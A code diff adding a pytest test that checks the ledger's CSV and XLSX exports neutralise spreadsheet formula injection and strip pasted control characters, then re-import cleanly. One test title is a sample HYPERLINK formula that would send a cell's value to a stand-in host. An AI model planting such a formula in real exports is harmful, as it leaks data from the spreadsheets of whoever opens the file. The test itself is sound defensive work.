@@ -2,6 +2,7 @@
 empty templates."""
 
 import csv
+import datetime
 import io
 
 import openpyxl
@@ -12,8 +13,9 @@ from campaigndesk.common.errors import DomainError
 from campaigndesk.ledger.io.columns import columns_for
 from campaigndesk.ledger.io.exports import export_records, export_rollup
 from campaigndesk.ledger.io.templates import template_file
-from campaigndesk.ledger.models import Indicator
+from campaigndesk.ledger.models import EventRecord, Indicator
 from campaigndesk.ledger.rollup import RollupFilter, rollup
+from campaigndesk.ledger.services import record_create
 
 from .io_files import GOOD, good_file, io_world, run_import, second_campaign, xlsx_bytes
 
@@ -210,3 +212,44 @@ def test_xlsx_bytes_helper_sanity():
     # The helper writes blanks as empty cells (what Excel does).
     rows = read_xlsx(xlsx_bytes([["a", ""], ["", "b"]]))
     assert rows == [("a", None), (None, "b")]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_text_a_spreadsheet_would_run_is_exported_as_text_and_imports_again(io_world, fmt):
+    titles = ['=HYPERLINK("http://x.example/?"&A2,"点击")', "+1 宣讲", "-专场-", "@所有人"]
+    for title in titles:
+        record_create(
+            actor=SYSTEM,
+            campaign=io_world.campaign,
+            record_kind="event",
+            unit=io_world.world.township_unit,
+            date=datetime.date(2024, 2, 7),
+            kind="lecture",
+            title=title,
+            sessions=1,
+            participants=10,
+            site="礼堂\x0b二楼\x01",  # control characters pasted from Word
+        )
+    export = export_records(
+        actor=SYSTEM, campaign=io_world.campaign, record_kind="event", format=fmt
+    ).read()
+    if fmt == "csv":
+        header, *rows = read_csv(export)
+        cells = [row[header.index("标题")] for row in rows]
+        # An apostrophe first: Excel shows the text instead of running it.
+        assert sorted(cells) == sorted("'" + title for title in titles)
+    else:
+        workbook = openpyxl.load_workbook(io.BytesIO(export))
+        sheet = workbook.worksheets[0]
+        header = [cell.value for cell in sheet[1]]
+        title, site = header.index("标题") + 1, header.index("地点") + 1
+        cells = [sheet.cell(row=n, column=title) for n in range(2, 6)]
+        assert all(cell.data_type == "s" for cell in cells), "a formula would run"
+        assert sorted(cell.value for cell in cells) == sorted(titles)
+        assert {sheet.cell(row=n, column=site).value for n in range(2, 6)} == {"礼堂二楼"}
+    target = second_campaign(io_world)
+    result = run_import(SYSTEM, target, "event", export, f"events.{fmt}")
+    assert result.created == 4
+    assert sorted(EventRecord.objects.filter(campaign=target).values_list("title", flat=True)) == (
+        sorted(titles)
+    )
